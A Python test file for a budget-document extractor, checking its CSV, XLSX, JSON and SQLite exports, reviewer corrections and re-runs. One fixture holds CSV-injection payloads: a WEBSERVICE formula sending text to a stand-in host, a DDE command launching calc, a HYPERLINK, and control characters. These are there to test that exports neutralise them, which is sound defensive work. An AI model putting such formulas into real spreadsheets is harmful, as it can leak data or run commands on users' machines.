import csv
import hashlib
import json

import pytest

from extractor.api import run
from extractor.review.queue import Action, ReviewQueue
from extractor.export import AMOUNT_COLUMNS, INDICATOR_COLUMNS, PROJECT_COLUMNS, document_json
from extractor.models import Check, ColumnKind, Document, Reason, TableKind

from conftest import ROOT, SEEDS, seed_path


@pytest.fixture(scope="module")
def out(tmp_path_factory):
    out = tmp_path_factory.mktemp("out")
    report = run([SEEDS], out)
    assert report.ok
    return out


def _rows(path):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 BOM for Excel"
    return list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))


def test_amounts_csv(out):
    rows = _rows(out / "amounts.csv")
    assert list(rows[0]) == AMOUNT_COLUMNS
    row = next(r for r in rows if r["code"] == "2040601" and r["column"] == "change_pct")
    assert (row["value"], row["unit"], row["raw"], row["table_kind"]) == ("15.67", "%", "15.67%", "expenditure_by_function")
    text = (SEEDS / "000_83af6fe4b24abd13.txt").read_text(encoding="utf-8")
    assert text[int(row["source_start"]) : int(row["source_end"])] == "15.67%"
    # A repair with one possible reading lowers confidence but is not sent to review
    # unless a check also fails on it.
    repaired = next(r for r in rows if r["raw"] == "197. 920000")
    assert (repaired["flagged"], repaired["reasons"], repaired["confidence"]) == ("0", "number_repaired", "0.85")
    # The one wrong cell of seed 000 (-11 printed for 20 − 31.1) is flagged by the checks.
    change = next(r for r in rows if r["code"] == "2040610" and r["column"] == "change_amount")
    assert (change["flagged"], change["reasons"]) == ("1", "sum_mismatch")


def test_projects_csv(out):
    rows = _rows(out / "projects.csv")
    assert list(rows[0]) == PROJECT_COLUMNS
    assert len(rows) == 14 + 3 + 24 + 13 + 3
    shifted = next(r for r in rows if r["project_name"] == "社区矫正工作经费" and r["doc"].startswith("002"))
    assert shifted["funds_total"] == "2.8505"
    assert set(shifted["reasons"].split(";")) == {"cell_shifted", "number_ambiguous", "number_repaired"}
    assert shifted["flagged"] == "1"
    # 项目主管处室 (seed 002) and 资金支出计划 (seed 003) reach the data, not only the JSON
    offices = [r["supervising_office"] for r in rows if r["doc"].startswith("002")]
    assert offices.count("05-行政政法股") >= 19 and "05-行政法股" in offices
    plans = {r["spending_plan"] for r in rows if r["doc"].startswith("003")}
    assert "3月底 25%; 6月底 80%; 10月底 100%; 12月底 100%" in plans
    assert {r["spending_plan"] for r in rows if r["doc"].startswith("002")} == {""}


def test_indicators_csv(out):
    rows = _rows(out / "indicators.csv")
    assert list(rows[0]) == INDICATOR_COLUMNS
    row = next(r for r in rows if r["level3"] == "法律援助律师值班天数")
    assert (row["level1"], row["level2"], row["operator"], row["number"], row["value_unit"]) == (
        "产出指标", "质量指标", "≥", "100.0", "天"
    )


def test_department_tables_and_their_key_tasks_csvs(out):
    """A department table's own fields (部门名称, 人数, 部门职责, 年度绩效目标) are a row of departments.csv and
    each of its key tasks (重点工作, 对应项目, 预算金额, 完成时限) a row of key_tasks.csv, with its span."""
    from extractor.export import DEPARTMENT_COLUMNS, KEY_TASK_COLUMNS

    departments = _rows(out / "departments.csv")
    assert list(departments[0]) == DEPARTMENT_COLUMNS
    assert {(r["doc"][:3], r["table_id"]) for r in departments} == {("000", "t21"), ("004", "t01")}
    dept = next(r for r in departments if r["doc"].startswith("004"))
    assert (dept["department"], dept["staff_count"], dept["status"]) == ("朝阳县司法局", "53.0", "auto")
    assert dept["duties"].startswith("朝阳县司法局贯彻落实省委") and dept["duties"].endswith("完成县委、县政府交办的其他任务。")
    assert dept["annual_goal"].startswith("目标1: 承担法制建设重大问题的研究")
    tasks = _rows(out / "key_tasks.csv")
    assert list(tasks[0]) == KEY_TASK_COLUMNS
    assert [(r["doc"][:3], r["department"], r["task"], r["project_name"], r["amount"], r["unit"], r["deadline"])
            for r in tasks] == [
        ("004", "朝阳县司法局", "人民调解及安置帮教工作", "人民调解及安置帮教以案定补", "104.08", "万元", "2021年12月"),
        ("004", "朝阳县司法局", "法律援助", "法律援助工作及律师案件补助", "40.0", "万元", "2021年12月"),
        ("004", "朝阳县司法局", "社区矫正工作", "社区矫正信息化建设", "16.23", "万元", "2021年12月")]
    text = seed_path("004").read_text(encoding="utf-8")
    assert text[int(tasks[1]["source_start"]):int(tasks[1]["source_end"])] == "法律援助"


def test_decisions_on_a_department_table_reach_its_rows(out):
    """A reviewer's correction of a key task's amount and rejection of the 部门职责 are in the rows the
    CSVs and the exports are written from (`document_rows`), and an amount converts with its unit."""
    from extractor.export import document_rows
    from extractor.export.rows import convert_units
    from extractor.review.items import Status, keyed_fields

    doc = Document.model_validate_json((out / "docs" / "004_30e10abd8c6a2537.json").read_bytes())
    keys = {path: key for key, path, _, _ in keyed_fields(doc)}
    rows = document_rows(doc, {keys["t01.department.key_tasks[1].amount"]: (Status.corrected, "41"),
                               keys["t01.department.duties"]: (Status.rejected, None)})
    (dept,) = rows["departments"]
    assert (dept["duties"], dept["department"], dept["status"]) == (None, "朝阳县司法局", "rejected")
    assert [(r["amount"], r["status"]) for r in rows["key_tasks"]] == [
        (104.08, "auto"), (41.0, "corrected"), (16.23, "auto")]
    converted = convert_units(rows, "元")["key_tasks"]
    assert [(r["amount"], r["unit"]) for r in converted] == [(1040800.0, "元"), (410000.0, "元"), (162300.0, "元")]


def test_project_funds_convert_with_their_unit(out):
    """`--unit` converts a project table's funds (总额, 财政拨款, 其他资金) as it converts amount rows, its
    `unit` following; a project without funds keeps its table's unit."""
    from extractor.export import document_rows
    from extractor.export.rows import convert_units

    doc = Document.model_validate_json(next((out / "docs").glob("000_*.json")).read_bytes())
    projects = document_rows(doc, {})["projects"]
    before = [(r["funds_total"], r["funds_fiscal"], r["funds_other"], r["unit"]) for r in projects]
    assert before[:2] == [(6.0, 6.0, None, "万元"), (34.7, 34.7, None, "万元")]
    converted = convert_units({"projects": projects}, "元")["projects"]
    assert [(r["funds_total"], r["funds_fiscal"], r["funds_other"], r["unit"]) for r in converted][:2] == [
        (60000.0, 60000.0, None, "元"), (347000.0, 347000.0, None, "元")]
    assert all(r["unit"] == "元" for r in converted if r["funds_total"] is not None)


def test_a_count_row_keeps_its_own_unit_in_the_data():
    """A 三公 决算 table's 公务用车保有量（辆） counts vehicles: its amount rows say 辆, not the table's 万元, and
    `--unit 元` leaves them as printed while it converts the money beside them."""
    from extractor.api import extract_file
    from extractor.export import document_rows
    from extractor.export.rows import convert_units

    doc = extract_file(ROOT / "eval" / "explore" / "d_final_accounts_tables.txt").doc
    rows = document_rows(doc, {})["amounts"]
    cars = [r for r in rows if r["name"] and r["name"].startswith("公务用车保有量")]
    assert [(r["value"], r["unit"]) for r in cars] == [(5.0, "辆"), (5.0, "辆")]
    converted = convert_units({"amounts": rows}, "元")["amounts"]
    assert {(r["value"], r["unit"]) for r in converted if r["name"] and r["name"].startswith("公务用车保有量")} == {(5.0, "辆")}
    assert any(r["unit"] == "元" and r["value"] == 114800.0 for r in converted)  # 公务用车运行维护费 11.48 万元


def test_document_json_and_run_json(out):
    doc = json.loads((out / "docs" / "000_83af6fe4b24abd13.json").read_text(encoding="utf-8"))
    assert doc["doc"] == "000_83af6fe4b24abd13" and len(doc["tables"]) == 21
    run_json = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert run_json["ok"] is True
    assert [f["status"] for f in run_json["files"]] == ["ok"] * 5
    assert run_json["files"][0]["tables_by_kind"]["project_performance"] == 14


def test_document_json_reads_back_to_the_same_document_at_half_the_size(out):
    """The document JSON, its tables without default values, reads back to the document it was
    written from, for every seed (line, project, department and narrative tables) and a document
    without tables; the document's own fields are all written."""
    full = written = 0
    for path in sorted((out / "docs").glob("*.json")):
        doc = Document.model_validate_json(path.read_bytes())
        text = path.read_text(encoding="utf-8")
        assert document_json(doc) == path.read_bytes()
        assert Document.model_validate_json(text).model_dump_json() == doc.model_dump_json()
        assert len(doc.tables) == len(json.loads(text)["tables"])
        assert set(json.loads(text)) == set(Document.model_fields)
        assert '"reasons":[]' not in text
        full, written = full + len(doc.model_dump_json()), written + len(text)
    assert written < 0.6 * full
    empty = Document(doc="a", source_path="a.txt", encoding="utf-8", sha256="0", n_chars=0)
    assert document_json(empty) == empty.model_dump_json().encode()


def test_document_json_writes_each_table_as_pydantic_leaves_out_its_defaults(out):
    """`document_json` serialises tables by a schema of their own (`_lean`): the same bytes as
    pydantic's `exclude_defaults`, for every table of the seeds and a value at its defaults."""
    from extractor.models import Amount, Span, Text

    for path in sorted((out / "docs").glob("*.json")):
        doc = Document.model_validate_json(path.read_bytes())
        tables = b",".join(t.__pydantic_serializer__.to_json(t, exclude_defaults=True) for t in doc.tables)
        assert b'"tables":[' + tables + b"]" in document_json(doc)
    doc = Document.model_validate_json((out / "docs" / "000_83af6fe4b24abd13.json").read_bytes())
    line = doc.tables[0].lines[0]  # a value and a code at their defaults, set as given
    line.amounts[0].amount = Amount(raw="1", span=Span(start=0, end=1), value=None, reasons=[])
    line.code = Text(raw="", value="", confidence=1.0, flagged=False)
    first = doc.tables[0]
    assert document_json(doc).count(first.__pydantic_serializer__.to_json(first, exclude_defaults=True)) == 1


def test_a_table_with_a_union_in_it_is_serialised_by_its_own_serialiser():
    """A union tells its choices apart by their classes: `_lean` keeps pydantic's serialiser for a
    model with one in it (a stand-in class there would make pydantic warn, and guess)."""
    import warnings
    from typing import Union

    from pydantic import BaseModel

    from extractor.export import _lean
    from extractor.models import Amount, Span, Text

    class Either(BaseModel):
        value: Union[Amount, Text]

    either = Either(value=Text(raw="a", value="a", span=Span(start=0, end=1)))
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert _lean(Either)(either) == either.__pydantic_serializer__.to_json(either, exclude_defaults=True)


def test_batch_goes_on_after_bad_files(tmp_path):
    inputs = tmp_path / "in"
    inputs.mkdir()
    (inputs / "a_empty.txt").write_bytes(b"")
    (inputs / "b_binary.txt").write_bytes(b"\x00\x01\x02" * 100)
    (inputs / "c_seed.txt").write_bytes((SEEDS / "001_9e7f8505a7e25c9c.txt").read_bytes())
    out = tmp_path / "out"
    report = run([inputs], out)
    assert not report.ok
    statuses = {r.path.name: (r.status.value, r.error) for r in report.results}
    assert statuses["a_empty.txt"] == ("failed", "empty file")
    assert statuses["b_binary.txt"][0] == "failed" and "binary" in statuses["b_binary.txt"][1]
    assert statuses["c_seed.txt"] == ("ok", None)
    assert (out / "docs" / "c_seed.json").exists()
    assert len(_rows(out / "projects.csv")) == 3


def _decide_two(out):
    """Correct the -11 of seed 000 to -11.1; in seed 002's shifted project t06, approve the name and
    reject the department."""
    from extractor.review.queue import Action, Filter, ReviewQueue

    with ReviewQueue.of(out) as queue:
        (wrong,) = queue.items(Filter.parse("doc:000 社区矫正"))
        queue.decide(wrong, Action.correct, "alice", "-11.1")
        t06 = {q.item.path: q for q in queue.items(Filter.parse("doc:002")) if q.item.table_id == "t06"}
        queue.decide(t06["t06.project.project_name"], Action.approve, "alice")
        queue.decide(t06["t06.project.department"], Action.reject, "alice")


def test_export_formats_carry_the_decisions(seed_run):
    import sqlite3

    from openpyxl import load_workbook

    from extractor.export import Format, export_dataset

    _decide_two(seed_run)
    (xlsx,) = export_dataset(seed_run, Format.xlsx, lang="en")
    book = load_workbook(xlsx, read_only=True)
    assert book.sheetnames[:21] == [
        "dictionary", "income_expenditure_summary", "income_by_source", "expenditure_by_function", "basic_expenditure_by_economic",
        "department_expenditure", "fund_expenditure", "state_capital", "three_public", "procurement",
        "department_performance", "self_evaluation_funds", "other", "project_unread", "projects", "indicators",
        "evaluations", "departments", "key_tasks", "unread_text", "findings"]
    tasks = list(book["key_tasks"].iter_rows(values_only=True))
    assert len(tasks) == 4 and tasks[1][tasks[0].index("amount")] == 104.08
    sheet = list(book["expenditure_by_function"].iter_rows(values_only=True))
    header = sheet[0]
    row = next(dict(zip(header, r)) for r in sheet[1:] if r[header.index("code")] == "2040610"
               and r[header.index("column")] == "change_amount" and r[0].startswith("000"))
    assert (row["value"], row["status"], row["raw"]) == (-11.1, "corrected", "-11")
    findings = list(book["findings"].iter_rows(values_only=True))
    assert len(findings) > 1 and findings[0][0] == "doc"
    book.close()

    (dataset,) = export_dataset(seed_run, Format.json)
    data = json.loads(dataset.read_text(encoding="utf-8"))
    project = next(p for p in data["projects"] if p["doc"].startswith("002") and p["table_id"] == "t06")
    assert (project["department"], project["status"]) == (None, "rejected")
    statuses = {r["status"] for r in data["amounts"]}
    assert statuses == {"auto", "pending", "corrected"}

    (db_path,) = export_dataset(seed_run, Format.sqlite)
    db = sqlite3.connect(db_path)
    assert db.execute("SELECT value, status FROM amounts WHERE code = '2040610' AND column = 'change_amount' "
                      "AND doc LIKE '000%'").fetchone() == (-11.1, "corrected")
    n_auto = db.execute("SELECT COUNT(*) FROM amounts WHERE status = 'auto'").fetchone()[0]
    assert n_auto == sum(r["status"] == "auto" for r in data["amounts"])


def test_run_outputs_keep_decisions_of_an_earlier_run(seed_run):
    """Re-running into the same folder writes the CSVs with the reviewers' decisions in place."""
    _decide_two(seed_run)
    run([SEEDS], seed_run)
    row = next(r for r in _rows(seed_run / "amounts.csv")
               if r["code"] == "2040610" and r["column"] == "change_amount" and r["doc"].startswith("000"))
    assert (row["value"], row["status"]) == ("-11.1", "corrected")


# Hostile cell texts planted in a public document (OWASP's CSV injection examples,
# a DDE call, and control characters that XML 1.0 forbids), each keeping a Chinese
# name so that the reader takes it as the row's name. Spaces are left out: the
# reader drops them from names as OCR noise.
_HOSTILE_NAMES = {
    "行政运行": '=WEBSERVICE("http://x.example/?"&"行政运行")',
    "一般行政管理事务": "=cmd|'/Ccalc'!A0一般行政管理事务",
    "基层司法业务": "+1+2基层司法业务",
    "普法宣传": "@SUM(1)普法宣传",
    "公共法律服务": "-2+3+cmd|'/Ccalc'!A0公共法律服务",
    "行政单位离退休": "行政\x08单位\x1b离退休",
}
_HOSTILE_PROJECT = '=HYPERLINK("http://x.example","社区矫正工作经费")'
_SHOWN = str.maketrans({"\x08": "\ufffd", "\x1b": "\ufffd"})  # visible, not dropped


@pytest.fixture(scope="module")
def hostile_out(tmp_path_factory):
    """Seed 000 with hostile text in six row names of its function table and in a project's name."""
    text = (SEEDS / "000_83af6fe4b24abd13.txt").read_text(encoding="utf-8")
    for name, hostile in _HOSTILE_NAMES.items():
        assert f"\t{name}\t" in text
        text = text.replace(f"\t{name}\t", f"\t{hostile}\t", 1)
    text = text.replace("项目名称\t\t社区矫正工作经费", f"项目名称\t\t{_HOSTILE_PROJECT}", 1)
    inputs = tmp_path_factory.mktemp("hostile_in")
    (inputs / "hostile.txt").write_text(text, encoding="utf-8")
    out = tmp_path_factory.mktemp("hostile_out")
    assert run([inputs], out).ok
    return out


def _read_back(hostile_out):
    from extractor.export import Format, export_dataset

    (xlsx,) = export_dataset(hostile_out, Format.xlsx, lang="en")
    csvs = export_dataset(hostile_out, Format.csv, hostile_out / "export_csv")
    return xlsx, {path.stem: _rows(path) for path in csvs}


def test_exports_make_document_text_inert(hostile_out):
    from openpyxl import load_workbook

    xlsx, tables = _read_back(hostile_out)
    expected = {h.translate(_SHOWN) for h in [*_HOSTILE_NAMES.values(), _HOSTILE_PROJECT]}

    # XLSX: no cell anywhere is a formula; the hostile texts are there, literally, as
    # strings, the formula-like ones with Excel's quote prefix.
    book = load_workbook(xlsx)
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value in expected and cell.value[0] in "=+-@":
                        assert cell.quotePrefix and cell.data_type == "s"
    assert expected <= texts
    # CSV: the formula-like texts gain OWASP's leading quote; the control characters are shown, not dropped.
    names = {r["name"] for r in tables["amounts"]}
    assert {"'" + h for h in _HOSTILE_NAMES.values() if h[0] in "=+-@"} <= names
    assert "行政\ufffd单位\ufffd离退休" in names
    assert "'" + _HOSTILE_PROJECT in {r["project_name"] for r in tables["projects"]}
    assert "'" + _HOSTILE_PROJECT in {r["project_name"] for r in tables["indicators"]}
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for rows in tables.values() for r in rows
                   for v in r.values())
    # The run's own CSVs are written the same way.
    assert {r["name"] for r in _rows(hostile_out / "amounts.csv")} == names


def test_exports_keep_negative_numbers_numbers(hostile_out):
    """Only text is neutralised: -48.85 stays a number in the XLSX and unquoted in the CSV."""
    from openpyxl import load_workbook

    xlsx, tables = _read_back(hostile_out)
    row = next(r for r in tables["amounts"] if r["code"] == "2040604" and r["column"] == "change_amount")
    assert (row["name"], row["value"], row["raw"]) == ("'+1+2基层司法业务", "-48.85", "-48.85")
    sheet = list(load_workbook(xlsx)["expenditure_by_function"].iter_rows(values_only=True))
    header = sheet[0]
    row = next(dict(zip(header, r)) for r in sheet[1:]
               if r[header.index("code")] == "2040604" and r[header.index("column")] == "change_amount")
    assert (row["name"], row["value"], row["raw"]) == ("+1+2基层司法业务", -48.85, "-48.85")


@pytest.mark.parametrize("text, cell", [
    ("=1+1", "'=1+1"), ("-2+3", "'-2+3"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("@A1", "'@A1"),
    ("-48.85", "-48.85"), ("+3", "+3"), ("-1,234.5", "-1,234.5"), ("-11%", "-11%"), ("-", "-"),
    ("住房=保障", "住房=保障"), ("a\x00b", "a\ufffdb"),
])
def test_csv_cell(text, cell):
    from extractor.export.cells import csv_cell

    assert csv_cell(text) == cell
    assert csv_cell(-48.85) == -48.85


def test_the_csvs_hold_what_a_dict_writer_writes_of_the_cells_made_inert(tmp_path):
    """The sink writes the cells a run of rows shares once, for all of them: the CSVs are still, byte
    for byte, each row's cells made inert and laid out by `csv.DictWriter`, hostile text in shared
    cells and in others, negative numbers, commas, quotes and line breaks included."""
    import io

    from extractor.export import _CsvSink
    from extractor.export.cells import csv_cell
    from extractor.export.rows import TABLES

    # each row one cell that may need `csv_cell` among plain ones, in a shared column or another
    odd = ["=1+1", "-2+3", "=SUM(A1,B1)", '-"x"', "-48.85", "-", "a,b", 'say "x"', "two\nlines", "\r=1",
           "\t@A1", "a\x00b", "行政\x1b单位", "@", -48.85, "+3", "", None]
    plain = ["住房保障", 3, None, "2024", 0.5]
    rows = {}
    for name, columns, _ in TABLES:
        rows[name] = [{c: odd[i % len(odd)] if j == (len(columns) - 1 - i) % len(columns) else f"doc{i // 20}"
                       if c in ("doc", "sha256") else plain[j % len(plain)] for j, c in enumerate(columns)}
                      for i in range(60)]
        # and a formula in each column alone, in a row after a plain one of the same document
        rows[name] += [{c: "=1+1" if j == k and second else f"pair{k}" if c in ("doc", "sha256")
                        else plain[j % len(plain)] for j, c in enumerate(columns)}
                       for k in range(len(columns)) for second in (False, True)]
    sink = _CsvSink(tmp_path)
    sink.add(rows)
    sink.commit()
    for name, columns, _ in TABLES:
        expected = io.StringIO()
        writer = csv.DictWriter(expected, columns)
        writer.writeheader()
        writer.writerows({c: csv_cell(v) for c, v in row.items()} for row in rows[name])
        assert (tmp_path / f"{name}.csv").read_bytes().decode("utf-8-sig") == expected.getvalue(), name


def test_self_evaluation_fields_in_every_export(tmp_path):
    import sqlite3

    from extractor.export import EVALUATION_COLUMNS, Format, export_dataset

    out = tmp_path / "out"
    assert run([ROOT / "tests" / "data" / "selfeval" / "project_tabbed.txt"], out).ok
    (evaluation,) = _rows(out / "evaluations.csv")
    assert list(evaluation) == EVALUATION_COLUMNS
    assert (evaluation["project_name"], evaluation["total_points"], evaluation["total_score"], evaluation["grade"]) == (
        "社区矫正工作经费", "100.0", "96.25", "优")
    assert evaluation["annual_outcome"].startswith("全年监管社区矫正对象126人")
    funds = {(r["name"], r["column"]): (r["value"], r["unit"]) for r in _rows(out / "amounts.csv")}
    assert funds[("年度资金总额", "budget_initial")] == ("20.0", "万元")
    assert funds[("年度资金总额", "final")] == ("18.5", "万元")  # 全年执行数
    assert funds[("年度资金总额", "execution_rate")] == ("92.5", "%")
    assert funds[("年度资金总额", "score")] == ("9.25", "分")
    timely = next(r for r in _rows(out / "indicators.csv") if r["level3"] == "经费支付及时率")
    # a value starting with `=` is kept inert for spreadsheets (`csv_cell`)
    assert (timely["value_raw"], timely["actual"], timely["points"], timely["score"]) == ("'=100%", "95%", "15.0", "12.0")
    assert timely["deviation"].startswith("个别款项年底才支付")

    (db_path,) = export_dataset(out, Format.sqlite, unit="元")
    db = sqlite3.connect(db_path)
    assert db.execute("SELECT grade, total_score FROM evaluations").fetchall() == [("优", 96.25)]
    # money converts to 元; rates and scores keep their own units
    assert db.execute("SELECT value, unit FROM amounts WHERE name = '年度资金总额' AND \"column\" = 'final'").fetchall() == [
        (185000.0, "元")]
    assert db.execute("SELECT value, unit FROM amounts WHERE \"column\" = 'points'").fetchall() == [(10.0, "分")]
    db.close()
    (xlsx,) = export_dataset(out, Format.xlsx, lang="en")
    from openpyxl import load_workbook

    book = load_workbook(xlsx, read_only=True)
    assert len(list(book["evaluations"].iter_rows())) == 2 and len(list(book["self_evaluation_funds"].iter_rows())) > 1


def test_a_self_evaluations_spending_split_is_no_leaf(tmp_path):
    """A 部门整体 self-evaluation splits its total twice (财政拨款 + 其他资金; 基本支出 + 项目支出): the sources are
    its leaves, the spending rows repeat their money and are none, so the leaves add up to the total once."""
    out = tmp_path / "out"
    assert run([ROOT / "tests" / "data" / "selfeval" / "department_grouped.txt"], out).ok
    rows = [r for r in _rows(out / "amounts.csv") if r["column"] == "budget_adjusted"]
    assert {r["name"]: r["leaf"] for r in rows} == {"年度资金总额": "0", "财政拨款": "1", "其他资金": "1", "基本支出": "0",
                                                  "项目支出": "0"}
    assert sum(float(r["value"]) for r in rows if r["leaf"] == "1") == 900


def test_the_export_carries_a_correction_that_fails_a_check(seed_run):
    """A reviewer types -12 for the -11 of 社区矫正 (20 − 31.1 is -11.1): the export takes the value and
    says, as findings, which identities it breaks."""
    from openpyxl import load_workbook

    from extractor.export import Format, export_dataset
    from extractor.review.queue import Action, Filter, ReviewQueue

    with ReviewQueue.of(seed_run) as queue:
        (wrong,) = queue.items(Filter.parse("doc:000 社区矫正"))
        queue.decide(wrong, Action.correct, "alice", "-12")
    export_dataset(seed_run, Format.csv)
    broken = [r for r in _rows(seed_run / "export" / "findings.csv") if r["check"] == "review_correction"]
    assert {(r["doc"][:3], r["table_id"], r["severity"], r["fields"]) for r in broken} == {
        ("000", "t02", "warning", "t02.lines[10].amounts[3].amount")}
    assert {r["message"] for r in broken} == {
        "with the correction: 2040610 社区矫正: change = total − prior year: -12, expected -11.1",
        "with the correction: 2040610 社区矫正: change % = change / prior year × 100: -35.37, expected -38.59",
        "with the correction: 20406 司法 = Σ its 项 rows [change_amount]: 133.4494, expected 132.5494"}
    (xlsx,) = export_dataset(seed_run, Format.xlsx, lang="en")
    sheet = list(load_workbook(xlsx, read_only=True)["findings"].iter_rows(values_only=True))
    assert sum(row[sheet[0].index("check")] == "review_correction" for row in sheet[1:]) == 3
    # approved as printed, the value is the document's: nothing more to say than the run said
    with ReviewQueue.of(seed_run) as queue:
        queue.undo("alice")
        queue.decide(queue.get(wrong.id), Action.approve, "alice")
    export_dataset(seed_run, Format.csv)
    assert not [r for r in _rows(seed_run / "export" / "findings.csv") if r["check"] == "review_correction"]


def test_same_named_files_are_documents_of_their_own(tmp_path):
    """Issue 19 item 7: a document is named by its path under the input folder: a.txt, a-2.txt and
    sub/a.txt stay three documents, a same-named file added later renames none of them, and every
    row carries its source path."""
    from extractor.review.queue import ReviewQueue

    inputs = tmp_path / "in"
    (inputs / "sub").mkdir(parents=True)
    for name, seed in (("a.txt", "002"), ("a-2.txt", "004"), ("sub/a.txt", "000")):
        (inputs / name).write_bytes(seed_path(seed).read_bytes())
    out = tmp_path / "out"
    first = run([inputs], out)
    assert first.ok and [r.doc_name for r in first.results] == ["a-2", "a", "sub/a"]
    saved = {p.relative_to(out).as_posix(): p.read_bytes() for p in (out / "docs").rglob("*.json")}
    assert set(saved) == {"docs/a.json", "docs/a-2.json", "docs/sub/a.json"}
    rows = _rows(out / "amounts.csv") + _rows(out / "projects.csv")
    assert {(r["doc"], r["source"]) for r in rows} == {
        ("a", str(inputs / "a.txt")), ("a-2", str(inputs / "a-2.txt")), ("sub/a", str(inputs / "sub" / "a.txt"))}
    with ReviewQueue.of(out) as queue:
        assert {q.item.doc for q in queue.items()} == {"a", "a-2", "sub/a"}
    # the same name with another suffix, and a folder sorted before the others
    (inputs / "a.md").write_bytes(seed_path("001").read_bytes())
    (inputs / "0").mkdir()
    (inputs / "0" / "a.txt").write_bytes(seed_path("003").read_bytes())
    second = run([inputs], out)
    assert [(r.doc_name, r.reused) for r in second.results] == [
        ("0/a", False), ("a-2", True), ("a.md", False), ("a", True), ("sub/a", True)]
    assert {k: (out / k).read_bytes() for k in saved} == saved
    # a document's rows are its own: the projects of sub/a.txt (seed 000) are all under sub/a
    projects = _rows(out / "projects.csv")
    assert {r["doc"] for r in projects if r["source"] == str(inputs / "sub" / "a.txt")} == {"sub/a"}
    assert {r["source"] for r in projects} == {str(inputs / n) for n in ("0/a.txt", "a.md", "a.txt", "a-2.txt", "sub/a.txt")}


def test_a_rerun_extracts_only_what_changed(tmp_path):
    """Issue 19 item 6: a file whose bytes and settings are unchanged keeps its document; a changed
    file, or another threshold, is extracted again; the outputs are those of a fresh run."""
    inputs = tmp_path / "in"
    inputs.mkdir()
    for seed in ("000", "001"):
        (inputs / seed_path(seed).name).write_bytes(seed_path(seed).read_bytes())
    out = tmp_path / "out"
    assert not any(r.reused for r in run([inputs], out).results)
    csvs = {p.name: p.read_bytes() for p in out.glob("*.csv")}
    assert all(r.reused for r in run([inputs], out).results)
    assert {p.name: p.read_bytes() for p in out.glob("*.csv")} == csvs
    changed = inputs / seed_path("001").name
    changed.write_text(changed.read_text(encoding="utf-8").replace("附件 2:", "附件 3:"), encoding="utf-8")
    assert {r.path.name[:3]: r.reused for r in run([inputs], out).results} == {"000": True, "001": False}
    assert not any(r.reused for r in run([inputs], out, flag_below=0.9).results)
    run_json = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert run_json["reused"] == 0 and all(f["sha256"] for f in run_json["files"])


def test_a_rerun_takes_the_outputs_of_unchanged_files_as_they_are(tmp_path):
    """Issue 22: a re-run into the same OUT, files, settings and decisions unchanged, copies each
    document's rows from the CSVs and keeps its JSON and page (not written again); a decision made
    since, or a CSV changed by hand, makes them anew; the outputs are those of a fresh run."""
    inputs = tmp_path / "in"
    inputs.mkdir()
    for seed in ("000", "001"):
        (inputs / seed_path(seed).name).write_bytes(seed_path(seed).read_bytes())
    out, fresh = tmp_path / "out", tmp_path / "fresh"
    run([inputs], out)

    def outputs(folder):
        return {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*")
                if p.is_file() and p.suffix in (".csv", ".json", ".html") and p.name not in ("run.json", ".reuse.json")}

    def stamps(folder):
        return {p: p.stat().st_mtime_ns for p in [*(folder / "docs").glob("*.json"), *(folder / "report" / "docs").glob("*")]}

    first, times = outputs(out), stamps(out)
    second = run([inputs], out)
    assert all(r.reused for r in second.results) and second.ok
    assert outputs(out) == first and stamps(out) == times  # nothing written again
    assert [(r.doc_name, r.fields, r.flagged, r.findings) for r in second.results] == [
        (f["doc"], f["fields"], f["flagged"], f["findings"])
        for f in json.loads((out / "run.json").read_text(encoding="utf-8"))["files"]]

    # a correction since: that document's rows and page carry it, the other's stay as they were
    with ReviewQueue.of(out) as queue:
        (item,) = [q for q in queue.items() if q.item.path == "t02.lines[10].amounts[3].amount"]
        queue.decide(item, Action.correct, "alice", "-11.1")
    run([inputs], out)
    corrected = [r for r in _rows(out / "amounts.csv") if r["status"] == "corrected"]
    assert [(r["doc"], r["value"]) for r in corrected] == [(item.item.doc, "-11.1")]
    page_001 = next((out / "report" / "docs").glob("001_*"))
    assert page_001.stat().st_mtime_ns == times[page_001]
    # the same decision in a fresh OUT (its queue copied over) gives the same outputs
    fresh.mkdir()
    for name in ("review.sqlite", "review.decisions.jsonl"):
        (fresh / name).write_bytes((out / name).read_bytes())
    run([inputs], fresh)
    assert outputs(out) == outputs(fresh)

    # a CSV changed by hand: the rows are made anew, not copied from it
    amounts = out / "amounts.csv"
    amounts.write_bytes(amounts.read_bytes().replace(b"1477.1094", b"9999.9999"))
    run([inputs], out)
    assert outputs(out) == outputs(fresh)


def test_a_file_name_at_the_limit_does_not_stop_the_batch(tmp_path):
    """Issue 19 item 13: a file name of 255 bytes is a document JSON name of 256 (`.json` for `.txt`),
    over the file system's limit: the name is cut, with a hash to keep two such names apart."""
    inputs = tmp_path / "in"
    inputs.mkdir()
    long_names = ["预" * 83 + "ab.txt", "预" * 83 + "ac.txt"]  # 255 bytes each, alike in their first 250
    for name, seed in zip(long_names, ("001", "004")):
        (inputs / name).write_bytes(seed_path(seed).read_bytes())
    (inputs / "z.txt").write_bytes(seed_path("002").read_bytes())
    out = tmp_path / "out"
    report = run([inputs], out)
    assert report.ok and len(report.results) == 3
    names = [r.doc_name for r in report.results]
    assert len(set(names)) == 3 and names[0] == "z"
    for name in names:
        assert len((name + ".json").encode("utf-8")) <= 255 and (out / "docs" / f"{name}.json").is_file()
    assert all(name.startswith("预" * 80) and "~" in name for name in names[1:])
    assert {r["source"] for r in _rows(out / "projects.csv")} >= {str(inputs / long_names[0])}


def test_exports_and_checks_hold_the_last_runs_documents(tmp_path):
    """Issue 19 item 6: OUT is what its run.json says: a document an earlier run over other files left in
    OUT/docs is neither exported nor re-checked (the export holds what the run's CSVs hold)."""
    from extractor.api import recheck
    from extractor.export import Format, export_dataset

    first, second = tmp_path / "first", tmp_path / "second"
    for folder, seeds in ((first, ("000", "001")), (second, ("002",))):
        folder.mkdir()
        for seed in seeds:
            (folder / seed_path(seed).name).write_bytes(seed_path(seed).read_bytes())
